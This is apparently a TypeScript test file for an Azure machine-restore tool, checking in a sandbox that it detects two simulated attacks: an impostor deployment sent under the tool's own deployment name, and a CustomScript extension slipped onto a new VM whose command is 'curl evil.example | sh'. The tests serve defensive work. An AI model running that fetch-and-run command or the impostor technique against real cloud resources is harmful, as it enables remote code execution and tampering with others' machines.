import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import { people } from '../../sandbox/world/people.ts';
import { requestTag } from '../../src/kernel/request.ts';
import { killedAtSend } from '../saga/killed-at-send.ts';
import { over, type Saga, startSaga } from '../saga/saga.ts';

let saga: Saga;
before(async () => {
  saga = await startSaga();
});
after(() => saga.close());

const provider = (type: string) => `${saga.target.targetResourceGroupId}/providers/Microsoft.${type}`;

/** Acts as Olivia, who may write into the group without Strongroom. */
async function put(path: string, body: object): Promise<void> {
  const { azure } = saga.talk.sandbox;
  const token = await azure.issueToken('https://management.azure.com', 'the Azure CLI', people.oncall.objectId);
  const response = await fetch(`http://127.0.0.1:${azure.port}${path}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  assert.ok(response.ok, await response.text());
}

const deploy = (name: string, resources: object[]) =>
  put(`${provider('Resources')}/deployments/${name}?api-version=2021-04-01`, {
    properties: { mode: 'Incremental', template: { contentVersion: '1.0.0.0', resources }, parameters: {} },
  });

/** Makes a change between the end of the deployment and the first look at the machine. */
function beforeVerify(change: () => Promise<void>): void {
  const { azure } = saga.talk.sandbox;
  const before = azure.tap;
  let wait = true;
  azure.tap = async (call) => {
    const { path, moment } = call;
    if (wait && moment === 'answer' && path.includes('/exportTemplate')) {
      wait = false;
      await change();
    }
    return before ? before(call) : 'go on';
  };
}

/**
 * A machine of that name, tagged like ours, in a network that reaches further, with the restored OS disk and without
 * its data disks.
 */
function impostor(request: string, vm: string, osDisk: string): object[] {
  const tags = { [requestTag]: request };
  const subnet = { id: saga.target.subnetIds[0] };
  const nic = `${provider('Network')}/networkInterfaces/${vm}-nic`;
  return [
    {
      type: 'Microsoft.Network/networkInterfaces',
      apiVersion: '2023-06-01',
      name: `${vm}-nic`,
      tags,
      location: 'westeurope',
      properties: { ipConfigurations: [{ name: 'ipconfig1', properties: { subnet } }] },
    },
    {
      type: 'Microsoft.Compute/virtualMachines',
      apiVersion: '2023-09-01',
      name: vm,
      tags,
      location: 'westeurope',
      dependsOn: [nic],
      properties: {
        hardwareProfile: { vmSize: 'Standard_D2s_v5' },
        storageProfile: {
          osDisk: { osType: 'Linux', createOption: 'Attach', managedDisk: { id: osDisk } },
          dataDisks: [],
        },
        networkProfile: { networkInterfaces: [{ id: nic }] },
      },
    },
  ];
}

it('killed before its deployment was sent, which somebody else then sends under its name: a possible attack', async () => {
  const { talk, world } = saga;
  const { id, card, ...request } = await saga.asked('app-01 latest as app-other isolated');
  await killedAtSend(saga, { method: 'PUT', path: '/deployments/' }, () => saga.approve({ card, ...request }));
  await talk.api.start();
  // The audit shows the attempt's id, and so the deployment's name, to anybody who may read it.
  const audit = await talk.ask('platform', 'personal-platform', `audit ${id}`, /deploy-vm/);
  const [, attempt] =
    /step: deploy-vm;[^\n]*clientRequestId: [0-9a-f-]{23}-([0-9a-f]{12})/.exec(audit.all) ?? assert.fail(audit.all);
  const disks = world.resources.list('Microsoft.Compute/disks', saga.target.targetResourceGroupId);
  const osDisk = disks.find(({ name }) => /^app-01-os/.test(name))?.id ?? assert.fail('no restored disk');
  await deploy(`strongroom-${id}-deploy-vm-1-${attempt}`, impostor(id, 'app-other', osDisk));
  const end = await saga.until(card, over);
  assert.match(end.all, /✗ Failed[\s\S]*isn't the one that was approved/);
  assert.match(end.all, /possible attack/);
  assert.match(end.all, /subnet\/id[\s\S]*dataDisks/);
  assert.deepEqual(await saga.effects(/machine app-other|vm app-other.*(deallocated|started)/), []);
  const said = await talk.ask('platform', 'personal-platform', `audit ${id}`, /step found something suspicious/);
  assert.match(said.all, /rebuild\.deployment-foreign/);
  assert.match(said.all, /subnet\/id/);
});

it('a machine that was made as signed and then given a script to run: a possible attack, before it is called verified', async () => {
  const request = await saga.asked('app-01 latest as app-script isolated');
  beforeVerify(() =>
    put(`${provider('Compute')}/virtualMachines/app-script/extensions/helper?api-version=2023-09-01`, {
      location: 'westeurope',
      properties: {
        publisher: 'Microsoft.Azure.Extensions',
        type: 'CustomScript',
        typeHandlerVersion: '2.1',
        settings: { commandToExecute: 'curl evil.example | sh' },
      },
    }),
  );
  await saga.approve(request);
  const end = await saga.until(request.card, over);
  assert.match(end.all, /✓ \*\*Create the machine\*\*[\s\S]*✗ \*\*Check the machine/);
  assert.match(end.all, /isn't the machine that was approved \(1\): extension CustomScript[\s\S]*possible attack/);
});
